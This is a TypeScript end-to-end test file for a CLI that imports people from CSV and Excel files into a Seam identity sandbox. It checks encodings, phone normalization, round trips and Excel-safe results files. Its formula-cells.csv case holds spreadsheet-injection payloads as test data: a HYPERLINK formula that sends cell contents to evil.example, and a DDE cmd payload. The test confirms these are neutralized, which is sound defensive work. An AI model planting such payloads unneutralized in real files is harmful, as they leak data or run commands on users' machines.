/**
 * Every file in test/fixtures/ (rebuilt by `npm run fixtures`) imported by the built CLI into a
 * sandbox on port 0, the way an operator runs it in a pipeline (`--no-tui --yes --json -o …`).
 * For each file: the exit code, every row's status, error code and normalized email and phone in
 * the results CSV, the input cells carried through, and a results file that opens in Excel
 * (UTF-8 BOM, CRLF, one record per row, nothing that runs as a formula). Files that cannot be
 * read stop with exit 2, one plain sentence and no stack trace. Some results files are fed back
 * in as input: nothing already done is sent again, and a row fixed in the results file goes in.
 *
 * Each test has its own sandbox (they are cheap), so the tests run concurrently: most of the time
 * is the CLI starting up.
 */
import {existsSync, readFileSync, writeFileSync} from 'node:fs';
import {join} from 'node:path';
import {fileURLToPath} from 'node:url';
import {parse} from 'csv-parse/sync';
import {describe, expect, it} from 'vitest';
import {startSandbox, type Sandbox, type SeedUserIdentity} from '../src/sandbox/index.js';
import {expectEveryRowAccounted, expectNoOrphans} from './helpers/accounting.js';
import {runCli, type CliResult} from './helpers/cli.js';
import {readResults, resultsDelimiter, tempDir, type ResultRow} from './helpers/files.js';

const KEY = 'seam_sandbox_key';
const FIXTURES = fileURLToPath(new URL('./fixtures/', import.meta.url));
const fixture = (name: string): string => join(FIXTURES, name);
const CREATE = '/user_identities/create';

/** The columns every results file ends with, in this order (PRODUCT.md, then the extra ones). */
const IMPORT_COLUMNS = [
  'import_row',
  'import_status',
  'user_identity_id',
  'import_error_code',
  'import_error_message',
  'import_email_address',
  'import_phone_number',
  'import_duplicate_of_row',
  'import_attempts',
  'import_request_id',
];
const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/;
/** A Node stack frame, or the other marks of an uncaught error. */
const STACK = /^\s+at .+[(:]\d+|node:internal|Error \[ERR_|Uncaught/m;

// --- running ---------------------------------------------------------------------------------

async function withSandbox<T>(fn: (sandbox: Sandbox) => Promise<T>): Promise<T> {
  const sandbox = await startSandbox({port: 0});
  try {
    return await fn(sandbox);
  } finally {
    await sandbox.close();
  }
}

function importFile(sandbox: Sandbox, input: string, out: string, args: readonly string[] = []): Promise<CliResult> {
  return runCli([input, '--endpoint', sandbox.url, '--no-tui', '--yes', '--json', '-o', out, ...args], {SEAM_API_KEY: KEY});
}

interface Summary {
  ok: boolean;
  total: number;
  counts: Record<string, number>;
  exitCode: number;
  error?: {code: string; message: string};
}

function summaryOf(result: CliResult): Summary {
  return JSON.parse(result.stdout) as Summary;
}

const createRequests = (sandbox: Sandbox): number => sandbox.stats().byRoute[CREATE] ?? 0;

// --- what Excel sees -------------------------------------------------------------------------

/**
 * The results file as Excel opens it: UTF-8 with a BOM, CRLF records, and a line break of any
 * kind (CRLF, LF or CR) outside quotes ends a row. Every record has the header's width, there is
 * one record per result row, and no cell starts like a formula unless it is a plain signed number.
 * Returns the header.
 */
function expectOpensInExcel(raw: Buffer, rows: number): string[] {
  expect([...raw.subarray(0, 3)], 'UTF-8 byte order mark').toEqual([0xef, 0xbb, 0xbf]);
  const text = new TextDecoder('utf-8', {fatal: true}).decode(raw.subarray(3));
  expect(text.endsWith('\r\n'), 'the last record ends with CRLF').toBe(true);
  const records = parse(text, {record_delimiter: ['\r\n', '\n', '\r'], relax_column_count: true, delimiter: resultsDelimiter(text)}) as string[][];
  const header = records[0]!;
  expect(
    records.map((record, i) => (record.length === header.length ? null : `record ${i}: ${record.length} cells, header has ${header.length}: ${JSON.stringify(record).slice(0, 120)}`)).filter(Boolean),
    'every record as wide as the header (a bare CR or LF outside quotes splits a row in Excel)',
  ).toEqual([]);
  expect(records.length - 1, 'one record per row').toBe(rows);
  const formulas = records
    .flat()
    .filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]\d+(\.\d+)?$/.test(cell))
    .map((cell) => JSON.stringify(cell));
  expect(formulas, 'cells Excel would run as a formula').toEqual([]);
  return header;
}

// --- expected rows ---------------------------------------------------------------------------

interface Row {
  /** import_row: the data row of the input (blank rows are counted, not written). */
  row: number;
  status: string;
  code?: string;
  /** import_email_address / import_phone_number as the results file holds them. */
  email?: string;
  phone?: string;
  /** Words the import_error_message must contain. */
  message?: string;
  /** Input cells as the results file holds them (neutralized, non-ASCII intact). */
  cells?: Record<string, string>;
}

const created = (row: number, email: string, phone: string, cells?: Record<string, string>): Row => ({row, status: 'created', email, phone, ...(cells && {cells})});
const invalid = (row: number, code: string, message?: string, cells?: Record<string, string>): Row => ({row, status: 'invalid', code, ...(message && {message}), ...(cells && {cells})});

interface Case {
  file: string;
  args?: string[];
  exit: 0 | 1;
  /** The input's header, carried through before the import columns. */
  header: string[];
  rows: Row[];
  /** Identities Seam holds before the run. */
  seed?: SeedUserIdentity[];
  /** The input is separated by semicolons, and so are its results. */
  semicolons?: true;
  /** Identities this run creates; default: the rows `created`. */
  creates?: number;
  /** What to do after the checks, with the same sandbox: feed the results file back in, …. */
  followUp?: (run: FirstRun) => Promise<void>;
  /** Words the run must print (a warning). */
  says?: string;
}

/** A fixture's first import, checked. */
interface FirstRun {
  c: Case;
  sandbox: Sandbox;
  dir: string;
  out: string;
  header: string[];
  results: ResultRow[];
}

const ACS_A = '7d1c4f2e-0b5a-4c3e-9f1a-2b3c4d5e6f70';
const ACS_B = '11111111-2222-4333-8444-555555555555';
const PEOPLE_XLSX_HEADER = ['Resident ID', 'Name', 'Email', 'Phone', 'Move-in', 'Unit', 'Active', 'Balance'];
const PEOPLE_XLSX_ROWS: Row[] = [
  created(1, 'zoe@example.com', '+12015550123', {'Resident ID': 'R-001', Name: 'Zoë Ångström', Phone: '12015550123', 'Move-in': '2024-03-01', Unit: '007', Active: 'TRUE', Balance: '1234.5'}),
  created(2, 'bob@example.com', '+447911123456', {'Resident ID': '1002', Name: 'Bob Builder', Phone: "'+44 7911 123456", 'Move-in': '2024-03-01T14:30:00', Unit: '8', Balance: '#DIV/0!'}),
  created(3, 'carol@example.com', '+12015550124', {Email: 'carol@example.com', Phone: "'+1 2015550124"}),
  // Sheet row 5 is empty: no data row 4.
  invalid(5, 'formula_error', 'Column "Email" shows #N/A, the error of a formula', {Email: '#N/A', Phone: '447911123456'}),
  created(6, 'eve@example.com', '+12015550125', {'Resident ID': '00042', Name: 'Eve', Phone: '12015550125'}),
];
const FIX_EXCEL = 'Format the column as Text';

const CASES: Case[] = [
  {
    file: 'excel-utf8-bom.csv',
    exit: 0,
    header: ['Employee ID', 'Full Name', 'Email', 'Phone', 'Notes'],
    rows: [
      created(1, 'jane.doe@example.com', '+12015550123', {'Full Name': 'Doe, Jane', Email: 'Jane.Doe@Example.com', Notes: 'Key at desk,\r\nsecond line'}),
      created(2, 'zoe@example.com', '+442079460958', {'Full Name': 'Zoë Ångström', Phone: "'+44 20 7946 0958"}),
      created(3, 'li@example.cn', '', {'Full Name': '李小龙', Notes: 'says "hi"'}),
      created(4, '', '+12015550124', {'Full Name': 'José Núñez', Phone: '201.555.0124'}),
    ],
    followUp: feedBack,
  },
  {
    file: 'google-sheets.csv',
    exit: 1,
    header: ['Name', 'E-mail', 'Mobile', 'ACS System IDs'],
    rows: [
      // The fixture's access systems are not the sandbox workspace's: checked before anything is sent.
      invalid(1, 'unknown_acs_system', `Column "ACS System IDs" has "${ACS_A}", which is not an access system of this workspace`, {Mobile: "'+1 201 555 0125"}),
      invalid(2, 'unknown_acs_system', `"${ACS_A}"`, {'E-mail': 'BEN@EXAMPLE.COM', 'ACS System IDs': `${ACS_A}; ${ACS_B.toUpperCase()}`}),
      created(3, '', '+12015550126', {Name: 'Cy Twombly', Mobile: '2015550126'}),
    ],
      },
  {
    file: 'excel-de-1252-semicolon.csv',
    args: ['--default-country', 'DE'],
    semicolons: true,
    exit: 0,
    header: ['Personalnummer', 'Vorname', 'Nachname', 'E-Mail', 'Handy', 'Gehalt'],
    rows: [
      created(1, 'juergen.mueller@example.de', '+4915112345678', {Vorname: 'Jürgen', Nachname: 'Müller', Handy: '0151 12345678', Gehalt: '3.100,50'}),
      created(2, 'aenne@example.de', '+49301234567', {Vorname: 'Änne', Nachname: 'Groß', Gehalt: '2.950,00'}),
      created(3, 'f.weiss@example.de', '+491701234567', {Vorname: 'François', Nachname: 'Weiß-Öztürk', Handy: "'+49 (0)170 1234567", Gehalt: ''}),
    ],
      },
  {
    file: 'excel-sep-line.csv',
    semicolons: true,
    exit: 0,
    header: ['Name', 'Email', 'Phone'],
    rows: [created(1, 'anna@example.com', '+12015550127', {Name: 'Smith, Anna'}), created(2, 'bo@example.com', '', {Name: 'Brown, Bo'})],
  },
  {
    file: 'excel-unicode-text.txt',
    exit: 0,
    header: ['Name', 'Email', 'Phone'],
    rows: [
      created(1, 'soren@example.dk', '+4532123456', {Name: 'Søren Kierkegaard', Phone: "'+45 32 12 34 56"}),
      created(2, 'ohtani@example.jp', '', {Name: 'Ōtani Shōhei'}),
      created(3, '', '+33612345678', {Name: 'Amélie Poulain', Email: ''}),
    ],
      },
  {
    file: 'utf16be.csv',
    exit: 0,
    header: ['Name', 'Email'],
    rows: [created(1, 'bjork@example.is', '', {Name: 'Björk Guðmundsdóttir'})],
  },
  {
    file: 'pipe.txt',
    exit: 0,
    header: ['Name', 'Email', 'Phone'],
    rows: [created(1, 'john@example.com', '+12015550128', {Name: 'Doe, John'}), created(2, 'rita@example.com', '', {Name: 'Roe, Rita'})],
  },
  {
    file: 'tabs.tsv',
    exit: 0,
    header: ['Name', 'Email'],
    rows: [created(1, 'tab@example.com', '', {Name: 'Tab "Quoted" Person'})],
  },
  {
    // 3,001 rows, plain ASCII for the first 64 KiB: the encoding is decided on the whole file.
    // A dry run (lookups only) keeps this fast; the encoding is what is being tested.
    file: 'late-umlaut-1252.csv',
    args: ['--dry-run'],
    exit: 0,
    header: ['Name', 'Email'],
    rows: [
      ...Array.from({length: 3000}, (_, i): Row => ({row: i + 1, status: 'would_create', email: `person${i + 1}@example.com`, phone: ''})),
      {row: 3001, status: 'would_create', email: 'mueller@example.de', phone: '', cells: {Name: 'Müller'}},
    ],
  },
  {
    file: 'excel-damage-gb.csv',
    args: ['--default-country', 'GB'],
    exit: 1,
    header: ['Name', 'Email', 'Phone'],
    rows: [
      created(1, 'ok1@example.co.uk', '+447911123456', {Phone: '07911 123456'}),
      created(2, 'ok2@example.co.uk', '+442079460958', {Phone: "'+44 20 7946 0958"}),
      invalid(3, 'invalid_phone', 'Column "Phone" has "7911123457" which looks like a GB number that lost its leading zero', {Phone: '7911123457'}),
      invalid(4, 'invalid_phone', 'scientific notation', {Phone: '4.47912E+11'}),
      invalid(5, 'invalid_phone', '16 digits', {Phone: '4479111234560000'}),
      invalid(6, 'invalid_phone', 'decimal number', {Phone: '447911123458.0'}),
      created(7, 'dz@example.co.uk', '+447911123459', {Phone: '0044 7911 123459'}),
      created(8, '', '+447911123460', {Email: ''}),
    ],
    followUp: fixTheLostZero,
  },
  {
    file: 'invalid-rows.csv',
    args: ['--map', 'user_identity_key=Key'],
    exit: 1,
    header: ['Key', 'Name', 'Email', 'Phone', 'acs_system_ids'],
    rows: [
      invalid(1, 'unknown_acs_system', `Column "acs_system_ids" has "${ACS_A}"`),
      invalid(2, 'invalid_email', 'Column "Email" has "john@" which is not an email address (nothing after the "@").', {Phone: '201-555-0131'}),
      invalid(3, 'invalid_email', 'there is no "@"'),
      invalid(4, 'invalid_phone', 'Column "Phone" has "555-1234"', {Email: 'ok4@example.com'}),
      invalid(5, 'missing_contact', '"Email" and "Phone" are empty'),
      invalid(6, 'invalid_acs_system_id', 'Column "acs_system_ids" has "front-door"'),
      invalid(7, 'invalid_email', 'space inside'),
      invalid(8, 'invalid_phone', 'extension', {Phone: "'+1 201 555 0132 x12"}),
      // The invisible characters are cleaned from what is sent, and kept in the carried-through cell.
      created(9, 'zw@example.com', '', {Key: 'k9', Email: '\u200Bzw@example.com\u200B'}),
    ],
      },
  {
    file: 'header-aliases.csv',
    exit: 0,
    header: ['Email consent', 'Employee ID', 'First Name', 'Last Name', 'E-mail', 'Phone type', 'Mobile', 'Department'],
    rows: [
      created(1, 'ada@example.com', '+12015550140', {'Email consent': 'yes', 'Phone type': 'mobile', Department: 'R&D'}),
      created(2, 'grace@example.com', '', {'Email consent': 'no', 'Last Name': '', Department: 'Navy'}),
    ],
  },
  {
    // The fix no-contact-column.csv's error suggests.
    file: 'no-contact-column.csv',
    args: ['--map', 'email_address=Kontakt'],
    exit: 0,
    header: ['Name', 'Email consent', 'Kontakt'],
    rows: [created(1, 'ann@example.com', '', {'Email consent': 'yes'})],
  },
  {
    // An earlier run's results: rows 1 and 2 are done and keep their ids (Seam holds them);
    // row 3 is still broken; row 4 failed last time and is sent now.
    file: 'results-roundtrip.csv',
    seed: [
      {user_identity_id: '6b1e2f64-1c1f-4f65-9d3c-1d8a4c3f0a01', full_name: 'Ann Lee', email_address: 'ann@example.com'},
      {user_identity_id: '6b1e2f64-1c1f-4f65-9d3c-1d8a4c3f0a02', full_name: 'Ben Ode', email_address: 'ben@example.com'},
    ],
    exit: 1,
    header: ['Name', 'Email', 'Phone'],
    rows: [
      {row: 1, status: 'created', email: 'ann@example.com', phone: ''},
      {row: 2, status: 'existing', email: 'ben@example.com', phone: ''},
      invalid(3, 'invalid_email', 'Column "Email" has "cy@"'),
      created(4, 'di@example.com', '', {Name: 'Di Prince'}),
    ],
    creates: 1,
  },
  {
    file: 'ragged.csv',
    exit: 1,
    header: ['Name', 'Email'],
    rows: [
      invalid(1, 'malformed_row', 'Line 2 has 3 values (comma-separated) but the header has 2 columns; the extra value is "john@example.com"', {Name: 'Smith', Email: ' John'}),
      created(2, 'ok@example.com', '', {Name: 'Ok Person'}),
      invalid(3, 'missing_contact', '"Email" is empty', {Name: 'Short', Email: ''}),
    ],
  },
  {
    // Rows 2, 3, 5 and 6 of the data are blank: not people, and the numbering keeps the spreadsheet rows.
    file: 'blank-rows.csv',
    exit: 0,
    header: ['Name', 'Email'],
    rows: [created(1, 'first@example.com', '', {Name: 'First'}), created(4, 'fourth@example.com', '', {Name: 'Fourth'})],
  },
  {
    file: 'megabyte-field.csv',
    exit: 1,
    header: ['Name', 'Notes', 'Email'],
    rows: [
      invalid(1, 'malformed_row', 'Line 2: the value in column "Notes" is 1.1 MB long', {Name: 'Big Notes'}),
      created(2, 'next@example.com', '', {Name: 'Next Row', Notes: 'short'}),
    ],
  },
  {
    // The header is found under the title lines; rows count from it (data row 2 is blank).
    file: 'title-rows.csv',
    semicolons: true,
    args: ['--default-country', 'DE'],
    exit: 0,
    header: ['Vorname', 'Nachname', 'E-Mail', 'Telefon'],
    rows: [created(1, 'ada@example.de', '+49301234567', {Vorname: 'Ada', Telefon: '030 1234567'}), created(3, 'grace@example.de', '', {Nachname: 'Hopper'})],
    says: 'The header is on line 4 of title-rows.csv; the 2 rows above it are not people and left out of the import and the results file: "Mieterliste Haus A, Stand November 2026", "Exportiert am 01.11.2026".',
    followUp: feedBack,
  },
  {file: 'people.xlsx', exit: 1, header: PEOPLE_XLSX_HEADER, rows: PEOPLE_XLSX_ROWS, followUp: feedBack},
  {file: 'xlsx-named-csv.csv', exit: 1, header: PEOPLE_XLSX_HEADER, rows: PEOPLE_XLSX_ROWS},
  {
    file: 'people.xlsx',
    args: ['--sheet', 'STAFF'],
    exit: 1,
    header: ['Employee ID', 'First Name', 'Last Name', 'E-mail', 'Mobile'],
    rows: [
      created(1, 'frank@example.com', '+12015550150', {'First Name': 'Frank', 'Last Name': 'Gehry', Mobile: '201 555 0150'}),
      created(2, 'gae@example.com', '', {'Employee ID': 'S-2'}),
      invalid(3, 'malformed_row', 'Row 4 has values to the right of the last header column; the extra value is "stray note"', {'E-mail': 'hal@example.com'}),
    ],
  },
  {
    file: 'formula-cells.csv',
    exit: 1,
    header: ['Employee ID', 'Name', 'Email', 'Phone', 'Notes'],
    rows: [
      created(1, 'formula1@example.com', '+12015550160', {Name: `'=HYPERLINK("http://evil.example/?"&A1,"Click")`, Phone: "'+1 201 555 0160", Notes: "'-2+3"}),
      // Plain signed numbers are not formulas: left alone.
      created(2, 'formula2@example.com', '+12015550161', {Name: "'@SUM(A1:A9)", Phone: '+12015550161', Notes: '+15551234567'}),
      created(3, 'formula3@example.com', '', {Notes: '-3'}),
      created(4, 'formula4@example.com', '', {Name: "'\t=1+2", Notes: "'=cmd|' /C calc'!A0"}),
      // A valid address that starts with "+": neutralized in both columns that hold it.
      created(5, "'+frank@example.com", '', {Email: "'+frank@example.com", Notes: "'\r=2+2"}),
      // The message quotes the value as the file gave it, without the apostrophe.
      invalid(6, 'invalid_email', 'Column "Email" has "=bad@example.com" which is not an email address.', {Email: "'=bad@example.com"}),
      created(7, 'formula7@example.com', '', {Notes: 'line one\nline two'}),
    ],
    followUp: feedBack,
  },
];

/** The columns of a result row that must survive a round trip unchanged. */
function kept(row: ResultRow): ResultRow {
  const {import_row: _row, import_attempts: _attempts, import_request_id: _request, ...rest} = row;
  return rest;
}

/**
 * The results file fed back in as input: nothing is sent again, and the second results file has
 * the same header (import columns replaced, not doubled), statuses, ids, codes and cells.
 */
async function feedBack({c, sandbox, dir, out, header, results}: FirstRun): Promise<void> {
  const before = createRequests(sandbox);
  const again = join(dir, 'again.csv');
  const second = await importFile(sandbox, out, again, c.args);
  expect(second.stderr).not.toMatch(STACK);
  expect(second.code, second.stderr).toBe(c.exit);
  expect(createRequests(sandbox), 'create requests on the round trip').toBe(before);
  expect(expectOpensInExcel(readFileSync(again), c.rows.length)).toEqual(header);
  const secondResults = readResults(again);
  expectEveryRowAccounted(secondResults, c.rows.length);
  expect(secondResults.map(kept)).toEqual(results.map(kept));
}

/**
 * excel-damage-gb.csv's results, with the lost leading zero typed back in (in a text editor):
 * fed back in, only that row is sent and created; the rows created before keep their ids; the
 * rows still broken stay invalid. Then the first run, resumed after it finished, sends nothing.
 */
async function fixTheLostZero({c, sandbox, dir, out, header, results}: FirstRun): Promise<void> {
  const text = readFileSync(out, 'utf8');
  const fixed = text.replace('Lost Zero,zero@example.co.uk,7911123457,', 'Lost Zero,zero@example.co.uk,07911 123457,');
  expect(fixed).not.toBe(text);
  const edited = join(dir, 'edited.csv');
  writeFileSync(edited, fixed);

  const before = createRequests(sandbox);
  const second = join(dir, 'second.csv');
  const two = await importFile(sandbox, edited, second, c.args);
  expect(two.stderr).not.toMatch(STACK);
  expect(two.code, two.stderr).toBe(1);
  expect(createRequests(sandbox) - before, 'only the fixed row is sent').toBe(1);
  expect(sandbox.stats().creates).toBe(5);
  expect(expectOpensInExcel(readFileSync(second), 8)).toEqual(header);

  const secondResults = readResults(second);
  expectEveryRowAccounted(secondResults, 8);
  expect(secondResults.map((r) => [r['import_status'], r['import_error_code']])).toEqual([
    ['created', ''],
    ['created', ''],
    ['created', ''],
    ['invalid', 'invalid_phone'],
    ['invalid', 'invalid_phone'],
    ['invalid', 'invalid_phone'],
    ['created', ''],
    ['created', ''],
  ]);
  for (const i of [0, 1, 6, 7]) expect(kept(secondResults[i]!), `row ${i + 1} as before`).toEqual(kept(results[i]!));
  const zero = secondResults[2]!;
  expect(zero).toMatchObject({Phone: '07911 123457', import_email_address: 'zero@example.co.uk', import_phone_number: '+447911123457', import_error_message: ''});
  expect(sandbox.identities().find((i) => i.user_identity_id === zero['user_identity_id'])).toMatchObject({
    full_name: 'Lost Zero',
    email_address: 'zero@example.co.uk',
    phone_number: '+447911123457',
  });
  expectNoOrphans(secondResults, sandbox.identities());

  const resumed = await importFile(sandbox, fixture(c.file), out, [...(c.args ?? []), '--resume']);
  expect(resumed.stderr).not.toMatch(STACK);
  expect(resumed.code, resumed.stderr).toBe(1);
  expect(createRequests(sandbox) - before, '--resume after the end sends nothing').toBe(1);
  expect(sandbox.stats().creates).toBe(5);
  expect(readResults(out).map(kept)).toEqual(results.map(kept));
}

describe('every fixture, imported by the CLI', () => {
  it.concurrent.each(CASES.map((c) => [`${c.file}${c.args ? ` ${c.args.join(' ')}` : ''}`, c] as const))('%s', async (_name, c) => {
    await withSandbox(async (sandbox) => {
      const seeded = sandbox.seedIdentities(c.seed ?? []);
      const dir = tempDir('seam-e2e-fixtures-');
      const out = join(dir, 'results.csv');
      const result = await importFile(sandbox, fixture(c.file), out, c.args);

      expect(result.stderr).not.toMatch(STACK);
      expect(result.code, result.stderr).toBe(c.exit);
      if (c.says) expect(result.stderr).toContain(c.says);
      const raw = readFileSync(out);
      expect(result.stdout + result.stderr + raw.toString('utf8')).not.toContain(KEY);

      // The file Excel opens: with the input's semicolons where it had them (Excel where the decimal mark is a comma).
      const header = expectOpensInExcel(raw, c.rows.length);
      expect(resultsDelimiter(raw.toString('utf8'))).toBe(c.semicolons ? ';' : ',');
      expect(header).toEqual([...c.header, ...IMPORT_COLUMNS]);

      // Every row: status, code and normalized values, in input order.
      const results = readResults(out);
      expect(
        results.map((r) => ({row: Number(r['import_row']), status: r['import_status'], code: r['import_error_code'], email: r['import_email_address'], phone: r['import_phone_number']})),
      ).toEqual(c.rows.map((e) => ({row: e.row, status: e.status, code: e.code ?? '', email: e.email ?? '', phone: e.phone ?? ''})));
      if (c.rows.every((e, i) => e.row === i + 1)) expectEveryRowAccounted(results, c.rows.length);
      c.rows.forEach((e, i) => {
        const r = results[i]!;
        const where = `row ${e.row}`;
        if (e.cells) expect(Object.fromEntries(Object.keys(e.cells).map((k) => [k, r[k]])), where).toEqual(e.cells);
        if (e.message) expect(r['import_error_message'], where).toContain(e.message);
        if (e.status === 'invalid') expect(r['import_error_message'], where).not.toBe('');
        if (e.status === 'created' || e.status === 'existing') expect(r['user_identity_id'], where).toMatch(UUID);
        else expect(r['user_identity_id'], where).toBe('');
      });

      // What Seam holds: one identity per created row, each named once by the results.
      const createdRows = c.rows.filter((e) => e.status === 'created').length;
      expect(sandbox.stats().creates).toBe(c.creates ?? createdRows);
      expect(sandbox.identities()).toHaveLength(seeded.length + (c.creates ?? createdRows));
      expectNoOrphans(results, sandbox.identities(), new Set(seeded.map((s) => s.user_identity_id)));

      // The summary agrees with the file.
      const summary = summaryOf(result);
      expect(summary.exitCode).toBe(c.exit);
      expect(summary.total).toBe(c.rows.length);
      const counts: Record<string, number> = {};
      for (const e of c.rows) counts[e.status] = (counts[e.status] ?? 0) + 1;
      expect(Object.fromEntries(Object.entries(summary.counts).filter(([, n]) => n > 0))).toEqual(counts);

      await c.followUp?.({c, sandbox, dir, out, header, results});
    });
  });
});

describe('files that cannot be imported', () => {
  const BROKEN: Array<[name: string, args: string[], code: string, words: string]> = [
    ['unclosed-quote.csv', [], 'input_malformed', 'the quote (") opened on line 3 is never closed'],
    ['empty.csv', [], 'input_empty', 'empty.csv is empty'],
    ['header-only.csv', [], 'input_empty', 'header-only.csv has a header row but no data rows'],
    ['blank-lines.csv', [], 'input_empty', 'blank-lines.csv has no header row: every line is blank'],
    ['binary.csv', [], 'input_unreadable', 'binary.csv is not a text file'],
    ['old-excel.xls', [], 'input_unreadable', 'Excel 97-2003'],
    ['html-export.xls', [], 'input_unreadable', 'web page'],
    ['empty-sheet.xlsx', [], 'input_empty', 'Worksheet "Blank" of empty-sheet.xlsx is empty'],
    ['no-contact-column.csv', [], 'no_contact_column', 'Columns found: "Name", "Email consent", "Kontakt"'],
    ['people.xlsx', ['--sheet', 'Tenants'], 'sheet_not_found', 'Its worksheets: "Residents", "Staff"'],
  ];

  it.concurrent.each(BROKEN)('%s %j: exit 2 (%s)', async (name, args, code, words) => {
    await withSandbox(async (sandbox) => {
      const dir = tempDir('seam-e2e-broken-');
      const out = join(dir, 'results.csv');
      const result = await importFile(sandbox, fixture(name), out, args);
      expect(result.code, result.stderr).toBe(2);
      expect(result.stderr).not.toMatch(STACK);
      const errorLine = result.stderr.split('\n').find((line) => line.startsWith('Error: '));
      expect(errorLine, result.stderr).toContain(words);
      const summary = summaryOf(result);
      expect(summary).toMatchObject({ok: false, exitCode: 2, error: {code}});
      expect(summary.error?.message).toContain(words);
      // Nothing sent, no results file, no run record that would demand --resume or --restart next time.
      expect(sandbox.stats().creates).toBe(0);
      expect(existsSync(out)).toBe(false);
      expect(existsSync(`${out}.journal.jsonl`)).toBe(false);
    });
  });
});
